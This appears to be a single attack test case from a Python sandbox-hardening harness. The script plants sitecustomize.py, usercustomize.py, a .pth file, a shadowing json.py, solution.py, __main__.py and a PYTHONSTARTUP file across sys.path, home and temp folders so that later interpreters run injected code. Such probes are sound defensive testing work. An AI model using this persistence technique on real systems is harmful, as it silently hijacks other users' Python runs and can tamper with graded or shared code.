# attack: {"tries": "plants sitecustomize, .pth files and start-up files for the next interpreter", "outcomes": ["exited"]}
import site
import sysconfig
text = "import builtins; builtins.print = lambda *words: None; builtins.PLANTED = 1\n"
folders = {".", "/tmp", os.path.expanduser("~"), site.getusersitepackages() if site.ENABLE_USER_SITE is not None else ".", *sys.path, *sysconfig.get_paths().values()}
for folder in filter(None, folders):
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "planted.pth", ".pythonrc.py", "solution.py", "__main__.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(text if not name.endswith(".pth") else "import os; os.PLANTED = 1\n")
            if folder.startswith(sys.base_prefix):
                leak(os.path.join(folder, name))
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = ".pythonrc.py"
done()
